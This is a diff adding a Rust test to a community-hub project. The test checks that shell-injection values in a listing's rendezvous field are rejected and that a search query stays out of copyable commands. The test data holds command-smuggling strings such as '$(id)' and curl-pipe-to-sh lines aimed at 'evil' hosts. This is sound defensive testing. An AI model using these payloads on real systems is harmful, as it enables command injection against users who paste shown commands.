@@ -157,6 +157,23 @@ async fn attack_what_strangers_write_ends_no_tag_and_no_attribute() {
     hub.close().await;
 }
 
+/// THREATS 23: what has a button that copies it is typed into a shell.
+#[tokio::test(flavor = "multi_thread")]
+async fn attack_nobody_puts_a_command_behind_the_hub_s_buttons() {
+    let folder = tempfile::tempdir().unwrap();
+    let hub = Hub::start(folder.path());
+    for place in ["x;id;:8787", "x$(id):8787", "--set=viewer=x:80", "-x:80", "https://x.example/;curl evil|sh", "https://x.example/$(id)"] {
+        let made = hub.as_admin(Method::POST, "/api/v1/communities").json(&listing("Chess", json!({ "rendezvous": place })));
+        assert_eq!(made.send().await.unwrap().status(), 400, "{place}");
+    }
+    let made = hub.list(listing("Chess Club", json!({}))).await;
+    let page = shown(&hub, &format!("/directory/{}", made["id"].as_str().unwrap())).await;
+    assert!(page.contains("<code>goop join &#39;https://rv.example/c/x&#39;</code>"));
+    let asked = shown(&hub, "/directory?q=chess%3B+curl+-s+evil.example%7Csh+%23").await;
+    assert!(asked.contains("<code>goop search chess</code>") && asked.matches("<code>goop").count() == 1);
+    hub.close().await;
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn the_rules_of_the_hub_are_said_in_plain_words() {
     for (policy, words) in
